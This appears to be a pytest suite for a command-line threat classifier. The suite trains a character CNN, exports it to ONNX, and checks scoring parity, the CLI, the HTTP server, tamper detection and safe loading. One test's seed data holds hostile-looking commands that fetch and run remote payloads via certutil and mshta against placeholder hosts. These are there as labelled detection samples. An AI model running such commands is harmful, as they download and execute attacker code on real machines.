"""The char-CNN student: trained on real rows with soft targets, exported to ONNX, scored by onnxruntime
through the normal loader and `smallworld score`."""

import json
import subprocess
import sys

import numpy as np
import pytest

torch = pytest.importorskip("torch")
pytest.importorskip("onnxruntime")
pytest.importorskip("onnx")

from smallworld import data as D  # noqa: E402
from smallworld.errors import ModelFileError, SmallworldError  # noqa: E402
from smallworld.evaluate import binary_metrics  # noqa: E402
from smallworld.student.model import Model  # noqa: E402
from smallworld.student import cnn, modelfile  # noqa: E402
from smallworld.tasks import load_task  # noqa: E402

from conftest import ROOT, cli  # noqa: E402

torch.set_num_threads(1)


def _sample(rows, n, seed):
    idx = np.random.default_rng(seed).choice(len(rows), size=min(n, len(rows)), replace=False)
    return [rows[i] for i in sorted(idx)]


@pytest.fixture(scope="module")
def trained(data_dir, tmp_path_factory):
    """A CNN trained on 400 real command lines: one-hot seed rows plus soft rows (weight 0.5)."""
    task = load_task("cmdlines")
    tr = _sample(D.read_rows(data_dir / "cmdlines" / "train.jsonl.gz"), 400, 0)
    dv = _sample(D.read_rows(data_dir / "cmdlines" / "dev.jsonl.gz"), 1200, 1)
    Y = np.array([[r["label"] == lab for lab in task.labels] for r in tr], dtype=float)
    soft = 0.8 * Y + 0.1  # soft targets, not one-hot
    texts = [task.view(r) for r in tr]  # as the pipeline trains it: the task's view
    w = np.where(np.arange(len(tr)) % 2 == 0, 1.0, 0.5)
    m = cnn.CNNStudent(task.labels, epochs=12, seed=0).fit(texts, soft, w)
    d = tmp_path_factory.mktemp("cnn") / "model"
    modelfile.save(m, d, {"task": task.to_dict(), "thresholds": {"best_guess": 0.5, "high_confidence": 0.9}})
    return task, m, d, dv


def test_onnx_scores_equal_torch_scores(trained):
    task, m, d, dv = trained
    texts = [r["text"] for r in dv] + ["", "x" * 5000, "é" * 300, "\x00\x01"]
    loaded, h = modelfile.load(d)
    assert isinstance(loaded, cnn.OnnxCNN) and h["family"] == "char_cnn"
    assert np.abs(loaded.predict_proba(texts) - m.predict_proba(texts)).max() < 1e-5


def test_scores_do_not_depend_on_batch_padding(trained):
    task, m, d, dv = trained
    texts = [r["text"] for r in dv[:40]] + ["a" * 600]
    together = m.predict_proba(texts)
    alone = np.vstack([m.predict_proba([t]) for t in texts])
    assert np.abs(together - alone).max() < 1e-5


def test_auc_on_dev_above_floor(trained):
    task, m, d, dv = trained
    P = Model(d).predict_proba([r["text"] for r in dv])
    auc = binary_metrics(np.array([r["label"] == task.positive for r in dv]), P[:, task.pos_index])["roc_auc"]
    print(f"dev ROC AUC {auc:.4f}")
    assert auc > 0.9, auc  # 400 training rows; dev shares sources with train (measured 0.953)


def test_model_dir_is_json_and_onnx_only(trained):
    task, m, d, dv = trained
    assert sorted(p.name for p in d.iterdir()) == ["model.json", "model.onnx"]
    h = json.loads((d / "model.json").read_text())
    assert h["format"] == "smallworld-cnn" and h["labels"] == list(task.labels)
    assert h["vocabulary"]["max_len"] == 256 and h["vocabulary"]["unit"] == "utf8_byte"


def test_smallworld_score_and_evaluate_take_a_cnn_model(trained, tmp_path):
    task, m, d, dv = trained
    rows = dv[:300]
    f = tmp_path / "rows.jsonl"
    D.write_jsonl(f, rows)
    out = tmp_path / "scores.jsonl"
    cli("score", d, f, "--out", out)
    got = [json.loads(line) for line in out.read_text().splitlines()]
    ref = m.predict_proba([task.view(r) for r in rows])[:, task.pos_index]
    assert [g["id"] for g in got] == [r["id"] for r in rows]
    assert np.abs(np.array([g["score"] for g in got]) - ref).max() < 2e-6
    assert all(g["decision"] == (task.positive if s >= 0.5 else "benign") for g, s in zip(got, ref))
    # plain lines, the path that takes a bulk kernel for linear models
    lines = tmp_path / "lines.txt"
    lines.write_text("\n".join(r["text"].replace("\n", " ") for r in rows[:50]) + "\n")
    got_lines = [json.loads(x) for x in cli("score", d, lines).stdout.splitlines()]
    assert len(got_lines) == 50
    ev = json.loads(cli("evaluate", d, f, "--json").stdout)
    assert ev["n"] == 300 and ev["roc_auc"] > 0.85


def test_loading_a_cnn_model_does_not_import_torch(trained):
    task, m, d, dv = trained
    code = ("import sys; from smallworld.student.model import Model; s = Model(sys.argv[1]); "
            "print(s.scores(['whoami /all'])[0]); assert 'torch' not in sys.modules, 'torch imported'")
    r = subprocess.run([sys.executable, "-c", code, str(d)], capture_output=True, text=True, cwd=ROOT)
    assert r.returncode == 0, r.stderr[-2000:]


def test_tampered_or_truncated_onnx_is_rejected(trained, tmp_path):
    task, m, d, dv = trained
    import shutil

    bad = tmp_path / "bad"
    shutil.copytree(d, bad)
    b = bytearray((bad / "model.onnx").read_bytes())
    b[len(b) // 2] ^= 0xFF
    (bad / "model.onnx").write_bytes(bytes(b))
    with pytest.raises(ModelFileError, match="sha256"):
        modelfile.load(bad)
    (bad / "model.onnx").write_bytes(bytes(b[:-10]))
    with pytest.raises(ModelFileError, match="truncated"):
        modelfile.load(bad)
    h = json.loads((d / "model.json").read_text())
    h["vocabulary"]["max_len"] = "256"
    (bad / "model.json").write_text(json.dumps(h))
    with pytest.raises(ModelFileError):
        modelfile.load(bad)


def test_fit_distilled_chooses_the_family():
    from smallworld.pipeline import TrainConfig, fit_distilled

    task = load_task("cmdlines")
    with pytest.raises(SmallworldError, match="--student"):
        TrainConfig(task="cmdlines", labelled="x", out="y", student="forest")
    cfg = TrainConfig(task="cmdlines", labelled="x", out="y", student="cnn")
    seed = ["certutil -urlcache -f http://x/a.exe", "git status", "mshta http://y/p.hta", "ls -la"]
    Y = np.array([[1, 0], [0, 1], [1, 0], [0, 1.0]])
    m = fit_distilled(task, cfg, seed, Y, np.ones(4), ["whoami", "dir"], np.array([[0.6, 0.4], [0.1, 0.9]]),
                      np.ones(2))
    assert isinstance(m, cnn.CNNStudent) and m.predict_proba(["ls"]).shape == (1, 2)


def test_serve_takes_a_cnn_model(trained, tmp_path):
    import httpx

    from conftest import free_port, start_serve

    task, m, d, dv = trained
    port = free_port()
    proc = start_serve(d, port, tmp_path / "serve.log")
    try:
        base = f"http://127.0.0.1:{port}"
        texts = [r["text"] for r in dv[:20]]
        ref = m.predict_proba([task.view(t) for t in texts])[:, task.pos_index]
        got = httpx.post(base + "/v1/score/batch", json={"items": [{"text": t} for t in texts]}).json()["results"]
        assert np.abs(np.array([g["score"] for g in got]) - ref).max() < 1e-5
        one = httpx.post(base + "/v1/score", json={"text": texts[0]}).json()
        assert abs(one["score"] - ref[0]) < 1e-5
        info = httpx.get(base + "/v1/model").json()
        assert info["family"] == "char_cnn" and info["weights_sha256"] == json.loads((d / "model.json").read_text())["weights_sha256"]
    finally:
        proc.terminate()
        proc.wait(10)


def test_train_cli_with_student_cnn(data_dir, tmp_path):
    out = tmp_path / "run"
    r = cli("train", "--task", "cmdlines", "--labelled", data_dir / "cmdlines" / "train.jsonl.gz", "--dev",
            data_dir / "cmdlines" / "dev.jsonl.gz", "--seed-size", "300", "--teacher", "none", "--student", "cnn",
            "--out", out)
    assert "distilled" in r.stdout
    h = json.loads((out / "model.json").read_text())
    assert h["family"] == "char_cnn" and (out / "model.onnx").is_file()
    assert json.loads((out / "seed_only" / "model.json").read_text())["format"] == "smallworld-linear"
    man = json.loads((out / "manifest.json").read_text())
    assert man["config"]["student"] == "cnn" and man["metrics"]["dev"]["distilled"]["roc_auc"] > 0.85


def test_loading_reaches_no_deserialiser_that_runs_code(trained, monkeypatch):
    import builtins
    import pickle

    task, m, d, dv = trained

    def trap(*a, **k):
        raise AssertionError("code-running deserialiser called while loading a model")

    for mod, name in ((pickle, "load"), (pickle, "loads"), (pickle, "Unpickler"), (np, "load"), (builtins, "eval"),
                      (builtins, "exec")):
        monkeypatch.setattr(mod, name, trap)
    loaded, _ = modelfile.load(d)
    assert loaded.predict_proba(["whoami"]).shape == (1, 2)
